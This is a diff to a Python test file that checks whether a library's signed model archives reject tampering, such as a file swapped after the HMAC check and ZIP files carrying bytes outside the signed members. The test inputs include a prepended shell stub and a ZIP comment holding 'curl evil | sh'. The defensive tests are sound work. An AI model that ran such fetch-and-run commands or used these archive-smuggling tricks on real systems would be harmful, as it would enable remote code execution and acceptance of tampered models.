@@ -9,6 +9,7 @@ import os
 import subprocess
 import sys
 import threading
+import zipfile
 
 import numpy as np
 import pytest
@@ -19,7 +20,7 @@ from sparsekm._persistence import atomic
 from sparsekm.kernels import RBF
 from sparsekm.models import KernelFisherDiscriminant
 
-from .test_persistence_hardening import _edit
+from .test_persistence_hardening import _edit, _members
 
 KEY = b"issue 38 key"
 
@@ -272,3 +273,84 @@ def test_text_beyond_unicode_refused(tmp_path, data):
     _edit(src, dst, edit)   # before: loaded, then SystemError when the labels were used
     with pytest.raises(FormatError, match="code point 0x110000"):
         load(dst)
+
+
+# -- item 4: verify what you decode -------------------------------------------------------
+def test_signed_file_changed_after_the_check_decodes_what_was_checked(tmp_path, kfd,
+                                                                      monkeypatch):
+    """A writer rewrites the file in place right after the HMAC check. Before, load read
+    the file again to decode it (here that failed on a CRC; the review's writer got 33 of
+    3,000 tampered models accepted with the key); now it decodes the bytes it verified."""
+    from sparsekm._persistence.zipreader import _Archive
+
+    path, evil = tmp_path / "signed.skm", tmp_path / "evil.skm"
+    save(kfd, path, key=KEY)
+
+    def shift(meta, _):
+        _state(meta)["intercept_"] += 5.0
+        _state(meta)["expansion_"]["intercept"] += 5.0
+    _edit(path, evil, shift)   # keeps signature.json: the tag no longer matches
+    real_verify = _Archive.verify
+
+    def verify_then_swap(self, key):
+        real_verify(self, key)
+        with open(path, "r+b") as fh:
+            fh.write(evil.read_bytes())
+            fh.truncate()
+    monkeypatch.setattr(_Archive, "verify", verify_then_swap)
+    loaded = load(path, key=KEY)
+    assert loaded.intercept_ == kfd.intercept_
+    monkeypatch.undo()
+    with pytest.raises(FormatError, match="authentication failed"):
+        load(path, key=KEY)   # the file on disk is now the tampered one
+
+
+# -- item 5: a signed file's every byte accounted for -------------------------------------
+def _rezip(dst, members, *, prefix=b"", gap_before=None, junk_after_data=b""):
+    """Write ``members`` (name -> bytes) stored, with raw bytes where the attack wants them."""
+    with open(dst, "wb") as fh:
+        fh.write(prefix)
+        with zipfile.ZipFile(fh, "w") as zf:
+            for name, data in members.items():
+                if name == gap_before:
+                    fh.write(b"\0" * 4096)
+                    zf.start_dir = fh.tell()  # where zipfile writes next
+                zf.writestr(name, data)
+            fh.write(junk_after_data)
+            zf.start_dir = fh.tell()
+
+
+@pytest.mark.parametrize("attack", ["gap", "after_data", "prepended", "nul_name", "comment",
+                                    "appended"])
+def test_signed_file_with_unauthenticated_bytes_refused(tmp_path, kfd, attack):
+    """Each of these loaded with the key before: the tag covers members' names, sizes and
+    contents, and these bytes are in none of them."""
+    src, dst = tmp_path / "signed.skm", tmp_path / "attack.skm"
+    save(kfd, src, key=KEY)
+    members = _members(src)
+    if attack == "gap":
+        _rezip(dst, members, gap_before="arrays/a1.npy")
+        match = "4096 byte.*belong to no member"
+    elif attack == "after_data":
+        _rezip(dst, members, junk_after_data=b"echo owned\n" * 100)
+        match = "between the last member's data and the ZIP central directory"
+    elif attack == "prepended":
+        _rezip(dst, members, prefix=b"#!/bin/sh\necho owned; exit 0\n")
+        match = "before member 'meta.json' belong to no member"
+    elif attack == "nul_name":
+        members = {("meta.jsonXevil" if n == "meta.json" else n): v for n, v in members.items()}
+        _rezip(dst, members)
+        dst.write_bytes(dst.read_bytes().replace(b"meta.jsonXevil", b"meta.json\0evil"))
+        match = "holds a NUL byte"
+    elif attack == "comment":
+        _rezip(dst, members)
+        with zipfile.ZipFile(dst, "a") as zf:
+            zf.comment = b"curl evil | sh"
+        match = "after the ZIP end record"
+    else:
+        dst.write_bytes(src.read_bytes() + b"trailing")
+        match = "after the ZIP end record|end-of-directory"
+    with pytest.raises(FormatError, match=match):
+        load(dst, key=KEY)
+    with pytest.raises(FormatError, match=match):
+        load(dst)   # the container is checked whatever the key
